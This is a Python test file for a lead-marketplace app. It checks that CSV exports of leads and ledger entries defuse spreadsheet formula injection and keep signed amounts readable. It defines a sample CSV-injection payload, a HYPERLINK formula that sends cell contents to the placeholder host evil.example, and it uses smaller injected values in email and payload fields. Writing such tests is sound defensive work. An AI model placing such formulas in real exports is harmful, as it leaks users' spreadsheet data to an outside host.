"""The provider's CSV exports never carry a formula a spreadsheet would run
(a provider, a level or a lead's email named like =HYPERLINK(...)), and signed amounts
stay readable numbers."""

from __future__ import annotations

import csv
import io

import httpx

from hotlead_app.domain import actors
from hotlead_app.domain.actors import admin
from hotlead_app.services import accounts, catalog, distribution, intake, leads, ledger
from hotlead_app.services.csv_export import money_column
from hotlead_app.services.reads import lead_inbox, ledger_entries
from tests.factories import ADMIN, confirmation_token, unique_email

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PASSWORD = "correct horse battery"


def _rows(lines) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(lines))))


def test_exports_neutralise_formulas_and_keep_negative_amounts(db, api_server):
    email = unique_email("csv")
    provider = accounts.create_provider_account(name=EVIL, email=email, password=PASSWORD, actor=admin())
    niche = catalog.create_niche(
        slug="csv-evil", name=EVIL, fields=[{"name": "note", "type": "text", "required": True}], actor=ADMIN
    )
    level = catalog.create_level(
        niche_id=niche.id,
        name=EVIL,
        price_per_lead="5.00",
        max_providers=1,
        priority_order=1,
        actor=ADMIN,
    )
    ledger.post(provider_id=provider.id, type="deposit", amount="4.00", key="csv:dep")
    ledger.post(provider_id=provider.id, type="deposit", amount="2.00", key="csv:dep2")
    catalog.create_subscription(competition_level_id=level.id, filters={}, actor=ADMIN, provider_id=provider.id)
    lead = intake.submit_lead(niche_slug="csv-evil", email="=1+2@example.com", payload={"note": "@SUM(1,2)"})
    leads.confirm_lead(token=confirmation_token(lead.id))
    leads.approve_lead(lead_id=lead.id, actor=ADMIN)
    distribution.distribute_lead(lead_id=lead.id)

    (row,) = _rows(lead_inbox.lead_inbox_csv(actors.provider(provider.id)))
    assert row["level"] == "'" + EVIL
    assert row["email"] == "'=1+2@example.com"
    assert row[money_column("price")] == "5.00"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row

    entries = _rows(ledger_entries.provider_ledger_csv(actors.provider(provider.id)))
    # 6.00 deposited, 5.00 charged: the charge is our signed number, written as one.
    assert [(e["type"], e[money_column("amount")], e[money_column("balance_after")]) for e in entries[:2]] == [
        ("charge", "-5.00", "1.00"),
        ("deposit", "+2.00", "6.00"),
    ]

    # The same through the API's download.
    login = httpx.post(f"{api_server}/api/v1/auth/login", json={"email": email, "password": PASSWORD}).json()
    headers = {"Authorization": f"Bearer {login['token']}"}
    body = httpx.get(f"{api_server}/api/v1/provider/leads.csv", headers=headers).text
    assert "'" + EVIL.replace('"', '""') in body and "\n=" not in body and ",=" not in body
